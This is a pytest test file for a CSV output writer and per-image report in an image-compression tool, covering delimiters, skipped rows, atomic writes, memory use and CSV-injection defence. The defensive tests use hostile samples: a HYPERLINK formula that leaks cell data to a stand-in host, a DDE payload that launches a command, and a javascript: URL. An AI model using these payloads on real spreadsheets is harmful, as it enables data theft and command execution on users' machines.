"""Writing the output CSV and the per-image report (contract §4)."""

from __future__ import annotations

import csv
import io
import tracemalloc
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from actors.manifest.reader import ManifestReader, open_manifest
from actors.manifest.rows import Slot
from actors.report import (
    INVALID_URL_ERROR,
    NO_OUTCOME_ERROR,
    OUTPUT_COLUMN,
    REPORT_HEADER,
    ByUrl,
    ImageOutcome,
    SlotOutcomes,
    neutralise_formula,
    write_output_csv,
    write_report,
)

NOT_FOUND = "not_found: the origin answered 404"
Writer = Callable[[ManifestReader, SlotOutcomes, Path], None]


def manifest_of(text: str, max_rows: int = 100) -> ManifestReader:
    data = text.encode()
    return open_manifest(lambda: io.BytesIO(data), max_rows=max_rows, max_images=2 * max_rows)


def ok(name: str, input_bytes: int = 1000, output_bytes: int = 250) -> ImageOutcome:
    return ImageOutcome(
        "ok", f"https://out.test/{name}", None, input_bytes, output_bytes, 640, 480, "jpeg"
    )


def failed(error: str = NOT_FOUND) -> ImageOutcome:
    return ImageOutcome("failed", None, error, None, None, None, None, None)


def valid_urls(manifest: ManifestReader) -> list[str]:
    return [slot.url for row in manifest.rows() for slot in row.slots if slot.valid]


def read_csv(path: Path, delimiter: str = ",") -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle, delimiter=delimiter))


def report_of(
    manifest: ManifestReader, outcomes: Mapping[str, ImageOutcome], tmp: Path
) -> list[dict[str, str]]:
    write_report(manifest, ByUrl(outcomes), tmp / "report.csv")
    with (tmp / "report.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


SAMPLE = (
    "S. No, Product Name, Input URLs\n"
    '1,SKU1,"https://example.com/a.jpg, https://example.com/b.png"\n'
    "4,imageone,https://example.com/800/600.jpg\n"
)


# --- output CSV ------------------------------------------------------------------------------


def test_output_csv_keeps_the_input_columns_and_adds_the_output_urls(tmp_path: Path) -> None:
    # Given the seed's sample, every image compressed
    manifest = manifest_of(SAMPLE)
    outcomes = {url: ok(url.rsplit("/", 1)[1]) for url in valid_urls(manifest)}
    # When the output CSV is written
    write_output_csv(manifest, ByUrl(outcomes), tmp_path / "out.csv")
    # Then the trimmed header, the cells and the output URLs in input order are there
    assert read_csv(tmp_path / "out.csv") == [
        ["S. No", "Product Name", "Input URLs", OUTPUT_COLUMN],
        [
            "1",
            "SKU1",
            "https://example.com/a.jpg, https://example.com/b.png",
            "https://out.test/a.jpg,https://out.test/b.png",
        ],
        ["4", "imageone", "https://example.com/800/600.jpg", "https://out.test/600.jpg"],
    ]


def test_output_csv_is_utf8_without_bom_in_crlf(tmp_path: Path) -> None:
    manifest = manifest_of("Product,URL\nCafé,https://x.test/1.jpg\n")
    write_output_csv(manifest, ByUrl({"https://x.test/1.jpg": ok("1.jpg")}), tmp_path / "out.csv")
    assert (tmp_path / "out.csv").read_bytes() == (
        "Product,URL,Output Image Urls\r\nCafé,https://x.test/1.jpg,https://out.test/1.jpg\r\n"
    ).encode()


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_output_csv_uses_the_input_delimiter(tmp_path: Path, delimiter: str) -> None:
    # Given a semicolon (or tab) file whose URL cell holds a comma
    header = delimiter.join(["Name", "URLs", "Note"])
    row = delimiter.join(["Shoe", "https://x.test/1.jpg,https://x.test/2.jpg", "n"])
    manifest = manifest_of(f"{header}\n{row}\n")
    outcomes = {"https://x.test/1.jpg": ok("1.jpg"), "https://x.test/2.jpg": ok("2.jpg")}
    # When the output CSV is written
    write_output_csv(manifest, ByUrl(outcomes), tmp_path / "out.csv")
    # Then the same delimiter separates the columns, and the first line shows it
    first_line = (tmp_path / "out.csv").read_text(encoding="utf-8").splitlines()[0]
    assert first_line == delimiter.join(["Name", "URLs", "Note", OUTPUT_COLUMN])
    assert read_csv(tmp_path / "out.csv", delimiter)[1] == [
        "Shoe",
        "https://x.test/1.jpg,https://x.test/2.jpg",
        "n",
        "https://out.test/1.jpg,https://out.test/2.jpg",
    ]


def test_a_failed_invalid_or_unknown_image_leaves_its_slot_empty(tmp_path: Path) -> None:
    # Given five URLs: ok, failed (naming an output by mistake), invalid, without any
    # outcome, ok
    manifest = manifest_of(
        "Product,URLs\n"
        'Shoe,"https://x.test/1 https://x.test/2 ftp://x.test/3 https://x.test/4 https://x.test/5"\n'
    )
    outcomes = {
        "https://x.test/1": ok("1.jpg"),
        "https://x.test/2": ImageOutcome("failed", "https://out.test/2.jpg", NOT_FOUND),
        "ftp://x.test/3": ok("never.jpg"),
        "https://x.test/5": ok("5.jpg"),
    }
    # When the output CSV is written
    write_output_csv(manifest, ByUrl(outcomes), tmp_path / "out.csv")
    # Then the positions still correspond
    assert (
        read_csv(tmp_path / "out.csv")[1][-1] == "https://out.test/1.jpg,,,,https://out.test/5.jpg"
    )


def test_skipped_rows_are_kept_in_place_with_an_empty_output(tmp_path: Path) -> None:
    manifest = manifest_of(
        "Product,URL\nA,https://x.test/a\n,https://x.test/x\nB,\nC,https://x.test/c\n"
    )
    outcomes = {"https://x.test/a": ok("a"), "https://x.test/c": ok("c")}
    write_output_csv(manifest, ByUrl(outcomes), tmp_path / "out.csv")
    assert read_csv(tmp_path / "out.csv")[1:] == [
        ["A", "https://x.test/a", "https://out.test/a"],
        ["", "https://x.test/x", ""],
        ["B", "", ""],
        ["C", "https://x.test/c", "https://out.test/c"],
    ]


def test_short_rows_are_padded_and_cells_written_as_read(tmp_path: Path) -> None:
    # Given a short row, a cell with a delimiter and a line break, and padded spaces
    manifest = manifest_of(
        'S. No,Product,URL,Note\n1,"Shoe, red\nsize 9 ",https://x.test/1\n2,Hat \n'
    )
    write_output_csv(manifest, ByUrl({"https://x.test/1": ok("1")}), tmp_path / "out.csv")
    # Then every row reaches the output column, and cells are unchanged
    assert read_csv(tmp_path / "out.csv")[1:] == [
        ["1", "Shoe, red\nsize 9 ", "https://x.test/1", "", "https://out.test/1"],
        ["2", "Hat ", "", "", ""],
    ]


def test_cells_past_the_header_are_kept_under_empty_header_cells(tmp_path: Path) -> None:
    # Given one row with an extra cell
    manifest = manifest_of("Product,URL\nA,https://x.test/a,extra\nB,https://x.test/b\n")
    outcomes = {"https://x.test/a": ok("a"), "https://x.test/b": ok("b")}
    write_output_csv(manifest, ByUrl(outcomes), tmp_path / "out.csv")
    # Then the header widens to keep it, and the output column lines up
    assert read_csv(tmp_path / "out.csv") == [
        ["Product", "URL", "", OUTPUT_COLUMN],
        ["A", "https://x.test/a", "extra", "https://out.test/a"],
        ["B", "https://x.test/b", "", "https://out.test/b"],
    ]


def test_trailing_delimiters_do_not_widen_the_output(tmp_path: Path) -> None:
    # Given rows ending in one and in two delimiters
    manifest = manifest_of("Product,URL\nA,https://x.test/a,\nB,https://x.test/b,,\n")
    outcomes = {"https://x.test/a": ok("a"), "https://x.test/b": ok("b")}
    write_output_csv(manifest, ByUrl(outcomes), tmp_path / "out.csv")
    # Then the output column follows the header's last column
    assert read_csv(tmp_path / "out.csv") == [
        ["Product", "URL", OUTPUT_COLUMN],
        ["A", "https://x.test/a", "https://out.test/a"],
        ["B", "https://x.test/b", "https://out.test/b"],
    ]


def test_a_duplicated_url_names_the_same_output_in_every_slot(tmp_path: Path) -> None:
    manifest = manifest_of(
        'Product,URLs\nA,"https://x.test/1 https://x.test/1"\nB,https://x.test/1\n'
    )
    write_output_csv(manifest, ByUrl({"https://x.test/1": ok("1.jpg")}), tmp_path / "out.csv")
    assert [line[-1] for line in read_csv(tmp_path / "out.csv")[1:]] == [
        "https://out.test/1.jpg,https://out.test/1.jpg",
        "https://out.test/1.jpg",
    ]


# --- report ----------------------------------------------------------------------------------


def test_report_has_one_line_per_slot_then_one_per_skipped_row(tmp_path: Path) -> None:
    # Given ok, failed, invalid and duplicated slots, and two skipped rows
    manifest = manifest_of(
        "Product,URLs\n"
        'A,"https://x.test/1 https://x.test/2"\n'
        ",https://x.test/9\n"
        'B,"javascript:alert(1) https://x.test/1"\n'
        "C,\n"
    )
    outcomes = {"https://x.test/1": ok("1.jpg"), "https://x.test/2": failed()}
    # When the report is written
    write_report(manifest, ByUrl(outcomes), tmp_path / "report.csv")
    # Then its header and lines are, in order:
    assert read_csv(tmp_path / "report.csv") == [
        list(REPORT_HEADER),
        ["2", "A", "https://x.test/1", "https://out.test/1.jpg", "ok", "", "1000", "250", "75.0"]
        + ["640", "480", "jpeg"],
        ["2", "A", "https://x.test/2", "", "failed", NOT_FOUND, "", "", "", "", "", ""],
        ["4", "B", "javascript:alert(1)", "", "failed", INVALID_URL_ERROR]
        + ["", "", "", "", "", ""],
        ["4", "B", "https://x.test/1", "https://out.test/1.jpg", "ok", "", "1000", "250", "75.0"]
        + ["640", "480", "jpeg"],
        ["3", "", "", "", "skipped", "no product name", "", "", "", "", "", ""],
        ["5", "C", "", "", "skipped", "no URL", "", "", "", "", "", ""],
    ]


def test_report_header_is_exactly_the_contracts(tmp_path: Path) -> None:
    manifest = manifest_of("Product,URL\nA,https://x.test/1\n")
    write_report(manifest, ByUrl({}), tmp_path / "report.csv")
    assert (tmp_path / "report.csv").read_text(encoding="utf-8").splitlines()[0] == (
        "row,product_name,input_url,output_url,status,error,input_bytes,output_bytes,"
        "saved_percent,width,height,format"
    )


def test_report_keeps_commas_when_the_input_used_semicolons(tmp_path: Path) -> None:
    manifest = manifest_of("Product;URL\nA;https://x.test/1\n")
    write_report(manifest, ByUrl({"https://x.test/1": ok("1")}), tmp_path / "report.csv")
    assert read_csv(tmp_path / "report.csv")[1][:5] == [
        "2",
        "A",
        "https://x.test/1",
        "https://out.test/1",
        "ok",
    ]


@pytest.mark.parametrize(
    ("input_bytes", "output_bytes", "shown"),
    [
        (1000, 250, "75.0"),
        (3, 2, "33.3"),
        (3, 1, "66.7"),
        (1000, 1000, "0.0"),
        (100_000, 100_001, "0.0"),
        (1000, 1001, "-0.1"),
        (1000, 0, "100.0"),
        (0, 0, ""),
        (None, 10, ""),
        (10, None, ""),
    ],
)
def test_saved_percent_has_one_decimal(
    tmp_path: Path, input_bytes: int | None, output_bytes: int | None, shown: str
) -> None:
    manifest = manifest_of("Product,URL\nA,https://x.test/1\n")
    outcome = ImageOutcome("ok", "https://out.test/1", None, input_bytes, output_bytes, 1, 1, "png")
    [line] = report_of(manifest, {"https://x.test/1": outcome}, tmp_path)
    assert line["saved_percent"] == shown


def test_a_failed_image_shows_its_download_size_but_nothing_of_an_output(tmp_path: Path) -> None:
    # Given a failure that still carries sizes and dimensions by mistake
    manifest = manifest_of("Product,URL\nA,https://x.test/1\n")
    outcome = ImageOutcome("failed", "https://out.test/1", "not_an_image: x", 500, 100, 2, 2, "png")
    # When reported
    [line] = report_of(manifest, {"https://x.test/1": outcome}, tmp_path)
    # Then only what was downloaded is shown
    assert line["input_bytes"] == "500"
    shown = [line[k] for k in ("output_url", "output_bytes", "saved_percent", "width", "format")]
    assert shown == ["", "", "", "", ""]
    assert (line["status"], line["error"]) == ("failed", "not_an_image: x")


def test_a_valid_url_without_an_outcome_is_reported_as_an_internal_error(tmp_path: Path) -> None:
    manifest = manifest_of("Product,URL\nA,https://x.test/1\n")
    [line] = report_of(manifest, {}, tmp_path)
    assert (line["status"], line["error"]) == ("failed", NO_OUTCOME_ERROR)


# --- formulas (CSV injection) ----------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click for details")'
DDE = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "cell",
    [
        HYPERLINK,
        DDE,
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\0=1+1",
        "-",
        "+",
        "-5-",
        "-5 ",
        "-1e",
        "-0x10",
        "=5",
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(cell: str) -> None:
    assert neutralise_formula(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        "-5",
        "+3.2",
        "3.14",
        "-0.5",
        "-.5",
        "+7.",
        "-1e3",
        "+2.5E-4",
        "https://example.com/a.jpg?x=-1",
        "Shoe - red, size 9",
        "'=already quoted",
        " =1+1",
        "",
    ],
)
def test_plain_numbers_urls_and_text_stay_verbatim(cell: str) -> None:
    assert neutralise_formula(cell) == cell


def test_a_number_in_other_digits_is_not_taken_for_a_plain_number() -> None:
    # Given a minus sign before Arabic-Indic digits, which `str.isdigit` would accept
    assert neutralise_formula("-\u0665") == "'-\u0665"


# A comma file whose header, product names, URL cells and another column carry formulas.
HOSTILE = (
    "S. No,Product Name,Input URLs,=Note\n"
    f'1,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",https://x.test/1.jpg,-2+3\n'
    f'2,"{DDE}",=cmd|calc!A0,\t=1+1\n'
    "-5,@SUM(A1),https://x.test/1.jpg,3.14\n"
    "+3.2,Shoe - red,https://x.test/1.jpg,-5\n"
    "4,=skipme,,text\n"
)


def test_formulas_in_the_output_csv_are_neutralised_header_included(tmp_path: Path) -> None:
    # Given formulas in a header cell, product names, a URL cell (an invalid URL) and a note
    manifest = manifest_of(HOSTILE)
    # When the output CSV is written
    write_output_csv(manifest, ByUrl({"https://x.test/1.jpg": ok("1.jpg")}), tmp_path / "out.csv")
    # Then each formula starts with a quote, and numbers, URLs and text are as they came
    assert read_csv(tmp_path / "out.csv") == [
        ["S. No", "Product Name", "Input URLs", "'=Note", OUTPUT_COLUMN],
        ["1", "'" + HYPERLINK, "https://x.test/1.jpg", "'-2+3", "https://out.test/1.jpg"],
        ["2", "'" + DDE, "'=cmd|calc!A0", "'\t=1+1", ""],
        ["-5", "'@SUM(A1)", "https://x.test/1.jpg", "3.14", "https://out.test/1.jpg"],
        ["+3.2", "Shoe - red", "https://x.test/1.jpg", "-5", "https://out.test/1.jpg"],
        ["4", "'=skipme", "", "text", ""],
    ]


def test_formulas_in_the_report_are_neutralised(tmp_path: Path) -> None:
    # Given the same file: the DDE row's URL cell is no URL, so it is an invalid_url slot
    manifest = manifest_of(HOSTILE)
    # When the report is written
    lines = report_of(manifest, {"https://x.test/1.jpg": ok("1.jpg")}, tmp_path)
    # Then product names and input URLs that would run are quoted; the rest is verbatim
    shown = [(line["product_name"], line["input_url"], line["status"]) for line in lines]
    assert shown == [
        ("'" + HYPERLINK, "https://x.test/1.jpg", "ok"),
        ("'" + DDE, "'=cmd|calc!A0", "failed"),
        ("'@SUM(A1)", "https://x.test/1.jpg", "ok"),
        ("Shoe - red", "https://x.test/1.jpg", "ok"),
        ("'=skipme", "", "skipped"),
    ]
    assert lines[1]["error"] == INVALID_URL_ERROR
    assert [line["saved_percent"] for line in lines[:4]] == ["75.0", "", "75.0", "75.0"]


def test_an_invalid_url_cell_split_into_pieces_is_neutralised_piece_by_piece(
    tmp_path: Path,
) -> None:
    # Given the classic DDE payload as a URL cell: it splits at its spaces into three slots
    manifest = manifest_of(f'Product,URL\nA,"{DDE}"\n')
    # When the report is written
    lines = report_of(manifest, {}, tmp_path)
    # Then every piece that starts like a formula is quoted, the others are as they came
    assert [line["input_url"] for line in lines] == ["'+cmd|'", "/C", "calc'!A0"]
    assert {line["error"] for line in lines} == {INVALID_URL_ERROR}


def test_a_failure_message_quoting_a_hostile_url_still_starts_with_its_reason(
    tmp_path: Path,
) -> None:
    # Given a failure whose message names the URL, and by mistake an error that starts with "="
    manifest = manifest_of("Product,URL\nA,https://x.test/1\nB,https://x.test/2\n")
    outcomes = {
        "https://x.test/1": failed("not_found: the origin answered 404 for =1+1"),
        "https://x.test/2": failed("=1+1"),
    }
    # When reported, Then the first stays readable and the second is neutralised too
    lines = report_of(manifest, outcomes, tmp_path)
    assert [line["error"] for line in lines] == [
        "not_found: the origin answered 404 for =1+1",
        "'=1+1",
    ]


# --- atomic writes ---------------------------------------------------------------------------


class ExplodingOutcomes:
    """A results lookup that breaks after a few answers, as a database might mid-write."""

    def __init__(self, answers: int) -> None:
        self.left = answers

    def of(self, slot: Slot) -> ImageOutcome:
        self.left -= 1
        if self.left < 0:
            raise RuntimeError("storage went away")
        return ok("x.jpg")


@pytest.mark.parametrize("write", [write_output_csv, write_report])
def test_a_write_that_fails_leaves_no_partial_file(tmp_path: Path, write: Writer) -> None:
    # Given many rows, an existing result file, and a results lookup that fails midway
    rows = "".join(f"P{i},https://x.test/{i}.jpg\n" for i in range(50))
    manifest = manifest_of(f"Product,URL\n{rows}")
    dest = tmp_path / "results" / "job.csv"
    dest.parent.mkdir()
    dest.write_text("previous\n")
    # When the write fails
    with pytest.raises(RuntimeError, match="storage went away"):
        write(manifest, ExplodingOutcomes(answers=10), dest)
    # Then the old file is untouched and no temporary file remains
    assert dest.read_text() == "previous\n"
    assert sorted(path.name for path in dest.parent.iterdir()) == ["job.csv"]


@pytest.mark.parametrize("write", [write_output_csv, write_report])
def test_a_write_creates_missing_folders_and_replaces_the_old_file(
    tmp_path: Path, write: Writer
) -> None:
    manifest = manifest_of("Product,URL\nA,https://x.test/1\n")
    dest = tmp_path / "new" / "job.csv"
    write(manifest, ByUrl({"https://x.test/1": ok("1")}), dest)
    write(manifest, ByUrl({"https://x.test/1": ok("1")}), dest)
    assert "https://out.test/1" in dest.read_text(encoding="utf-8")
    assert [path.name for path in dest.parent.iterdir()] == ["job.csv"]


# --- memory ----------------------------------------------------------------------------------


@pytest.mark.parametrize("write", [write_output_csv, write_report])
def test_writing_a_hundred_thousand_rows_keeps_memory_flat(tmp_path: Path, write: Writer) -> None:
    # Given a stored CSV of 100,000 rows (about 4 MB), one in a thousand skipped
    lines = [f"{'' if i % 1000 == 0 else f'P{i}'},https://x.test/{i}.jpg" for i in range(100_000)]
    source = tmp_path / "in.csv"
    source.write_text("Product,URL\n" + "\n".join(lines) + "\n", encoding="utf-8")
    del lines
    manifest = open_manifest(source, max_rows=100_000, max_images=100_000)
    # When the file is written under tracemalloc (no outcomes: they are one per distinct URL,
    # the database's to hold, not the writer's)
    tracemalloc.start()
    try:
        write(manifest, ByUrl({}), tmp_path / "out.csv")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # Then it streams: a small fraction of what it reads, or of what it writes
    assert (tmp_path / "out.csv").stat().st_size > source.stat().st_size > 3_000_000
    assert peak < 1_000_000, f"peak {peak:,} B"
